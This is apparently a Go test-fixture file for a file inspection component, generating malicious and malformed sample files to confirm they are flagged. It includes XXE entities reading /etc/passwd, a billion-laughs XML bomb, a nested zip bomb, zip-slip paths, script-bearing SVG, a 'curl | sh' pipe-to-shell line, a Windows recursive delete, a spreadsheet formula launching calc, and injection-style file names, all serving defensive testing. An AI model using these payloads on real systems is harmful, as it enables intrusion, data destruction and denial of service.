package inspecttest

import (
	"archive/zip"
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"

	"sejur/internal/files/inspect"
)

// Eicar is the file that every scanner for viruses knows and that harms nobody. It is put together when it is asked for, so that no scanner
// finds it in the sources.
func Eicar() string {
	return `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!" + `$H+H*`
}

// bundle is an archive of several files, as office programs write.
func bundle(files ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i+1 < len(files); i += 2 {
		f, err := w.Create(files[i])
		if err == nil {
			_, err = f.Write([]byte(files[i+1]))
		}
		if err != nil {
			panic(err) // into memory
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

const (
	types  = "[Content_Types].xml"
	entity = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`
)

// documents are files of other programs.
func documents() []Case {
	ole := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504) + "W\x00o\x00r\x00d\x00D\x00o\x00c\x00u\x00m\x00e\x00n\x00t\x00"
	office := []string{inspect.Office, inspect.Archive, inspect.Type}
	var laughing strings.Builder
	laughing.WriteString(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">`)
	for i := range 20 {
		fmt.Fprintf(&laughing, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	laughing.WriteString("]><l>&l20;</l>")
	matryoshka := func() []byte {
		data := make([]byte, 10<<20)
		for range 6 {
			data = bundle("a.zip", string(data), "b.zip", string(data))
		}
		return data
	}
	return []Case{
		one("a text with a macro", bundle(types, "<Types/>", "word/document.xml", "<w:document/>", "word/vbaProject.bin", ole), office...),
		one("a table with a macro", bundle(types, "<Types/>", "xl/workbook.xml", "<workbook/>", "xl/vbaProject.bin", ole), office...),
		one("slides", bundle(types, "<Types/>", "ppt/presentation.xml", "<p/>"), office...),
		one("a text with an entity", bundle(types, entity, "word/document.xml", entity), office...),
		one("an open text", bundle("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<x/>"), office...),
		one("an old text", []byte(ole), office...),
		one("a rich text", []byte(`{\rtf1\ansi{\object\objocx}}`), office...),
		one("a virus that is none", []byte(Eicar()), inspect.Type),
		one("a virus that is none, in an archive", Zip("eicar.com", []byte(Eicar())), inspect.Archive),
		one("a virus that is none, in a text", bundle(types, "<Types/>", "word/document.xml", Eicar()), office...),
		one("a virus that is none, in a PDF", Page("", "/Contents 6 0 R", Stream("/Filter /FlateDecode", Flate([]byte("% "+Eicar())))), Harmless),
		one("a virus that is none, in a photo", WithSegment(JPEG(Scene(9, 9)), 0xfe, []byte(Eicar())), Harmless),
		{"archives in archives", matryoshka, []string{inspect.Archive}},
		one("an archive that leads out of its folder", bundle("../../etc/cron.d/a", "x"), inspect.Archive),
		one("a RAR", []byte("Rar!\x1a\x07\x01\x00"+strings.Repeat("\x00", 30)), inspect.Archive),
		one("a 7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"+strings.Repeat("\x00", 30)), inspect.Archive),
		one("a gzip", append([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), Zeros(1<<20)...), inspect.Archive),
		one("a tar", cat("a"+strings.Repeat("\x00", 99), "0000644\x000000000\x000000000\x0000000000000\x0000000000000\x00", "005530\x00 0", strings.Repeat("\x00", 100), "ustar\x0000", strings.Repeat("\x00", 1200)), inspect.Archive, inspect.Type),
		one("a drawing with a script", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`), inspect.Type),
		one("a drawing with an entity", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`), inspect.Type),
		one("XML with an entity", []byte(entity), inspect.Type),
		one("XML that laughs a billion times", []byte(laughing.String()), inspect.Type),
		one("a page", []byte("<!DOCTYPE html>"+html), inspect.Type),
		one("PostScript", []byte("%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file"), inspect.Type),
		one("a script of a shell", []byte("#!/bin/sh\ncurl 203.0.113.1 | sh\n"), inspect.Type),
		one("a script of Windows", []byte("@echo off\r\ndel /s /q c:\\\r\n"), inspect.Type),
		one("a script of PHP", []byte(php), inspect.Type),
		one("a program of Windows", []byte("MZ\x90\x00"+strings.Repeat("\x00", 200)), inspect.Type),
		one("a program of Linux", []byte("\x7fELF\x02\x01\x01"+strings.Repeat("\x00", 57)), inspect.Type),
		one("a class of Java", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x41"+strings.Repeat("\x00", 30)), inspect.Type),
		one("a shortcut", []byte("L\x00\x00\x00\x01\x14\x02\x00"+strings.Repeat("\x00", 68)), inspect.Type),
		one("a film of Flash", []byte("FWS\x09"+strings.Repeat("\x00", 30)), inspect.Type),
		one("a letter", []byte("From: a@example.org\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a--"), inspect.Type),
		one("plain text", []byte("Bună ziua"), inspect.Type),
		one("a table as text", []byte("=cmd|' /C calc'!A0,b\n1,2\n"), inspect.Type, inspect.Office),
	}
}

// good are files of each kind that nothing is wrong with.
func good() map[string][]byte {
	return map[string][]byte{
		"JPEG": WithExif(JPEG(Scene(64, 48)), 6), "PNG": PNG(Scene(64, 48)), "PDF": Page("", ""), "packed PDF": Packed("<< /Type /Catalog /Pages 2 0 R >>",
			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>", Stream("", []byte("q Q"))), "HEIC": HEIC(),
	}
}

// sorts are the kinds of good, in a fixed order.
func sorts() []string { return []string{"JPEG", "PNG", "PDF", "packed PDF", "HEIC"} }

// truncated are good files of which the end is missing.
func truncated() []Case {
	var out []Case
	for _, kind := range sorts() {
		data := good()[kind]
		for i := range 9 {
			cut := max(9, len(data)*(i+1)/10)
			out = append(out, Case{fmt.Sprintf("the first %d bytes of a %s", cut, kind), func() []byte { return data[:cut] }, nil})
		}
	}
	return out
}

// mutants are good files in which some bytes were changed, always the same ones.
func mutants() []Case {
	var out []Case
	for _, kind := range sorts() {
		data := good()[kind]
		for i := range 16 {
			out = append(out, Case{fmt.Sprintf("%s with changes %d", kind, i), func() []byte {
				chance := rand.New(rand.NewPCG(uint64(i), uint64(len(data)))) //nolint:gosec // G404, G115: always the same
				changed := bytes.Clone(data)
				for range 1 + i {
					changed[9+chance.IntN(len(changed)-9)] = byte(chance.IntN(256)) //nolint:gosec // G115: a byte
				}
				return changed
			}, nil})
		}
	}
	return out
}

// odd are files that are hardly any.
func odd() []Case {
	const most = 20 << 20
	lazy := func(name string, make func() []byte, want ...string) Case { return Case{name, make, want} }
	return []Case{
		one("nothing", nil, inspect.Empty),
		one("one byte", []byte{0}, inspect.Type),
		one("%PDF", []byte("%PDF"), inspect.Type),
		one("the beginning of a JPEG", []byte("\xff\xd8\xff"), inspect.Broken),
		one("the beginning of a PNG", []byte("\x89PNG\r\n\x1a\n"), inspect.Broken),
		lazy("20 MB of zeros", func() []byte { return make([]byte, most) }, inspect.Type),
		lazy("one byte more than 20 MB", func() []byte { return cat(JPEG(Scene(9, 9)), make([]byte, most)) }, inspect.Large),
		lazy("20 MB of chance behind the beginning of a JPEG", func() []byte {
			chance := rand.NewChaCha8([32]byte{1})
			data := make([]byte, most)
			_, _ = chance.Read(data)
			copy(data, "\xff\xd8\xff\xe0\x00\x04\x00\x00")
			return data
		}, inspect.Broken),
		lazy("20 MB of chance behind the beginning of a PDF", func() []byte {
			chance := rand.NewChaCha8([32]byte{2})
			data := make([]byte, most)
			_, _ = chance.Read(data)
			copy(data, "%PDF-1.7\n")
			return data
		}, inspect.Broken, inspect.TooHeavy),
	}
}

// Names are what senders may call a file.
func Names() []string {
	return []string{
		"../../etc/passwd", `..\..\windows\system32\a.dll`, "/etc/passwd", `C:\a.pdf`, "a\x00.pdf", strings.Repeat("a", 300) + ".pdf", strings.Repeat("ș", 200) + ".pdf",
		"\u202efdp.exe", "a\r\nSet-Cookie: a=b.pdf", `a"; filename="b.exe`, "a'b.pdf", "<script>alert(1)</script>.pdf", "a;b.pdf", "%2e%2e%2fa.pdf", "CON", "nul.pdf", ".", "..", "",
		" ", "a.pdf.exe", ".htaccess", "a\tb.pdf", "-rf", "$(id).pdf", "`id`.pdf", "паспорт.pdf", "جواز.pdf", "a\ufeffb.pdf", "\xff\xfe.pdf", "a/b.pdf", "🛂.pdf", "a.pdf ", "a.pdf.", "=cmd|' /C calc'!A0.pdf",
	}
}
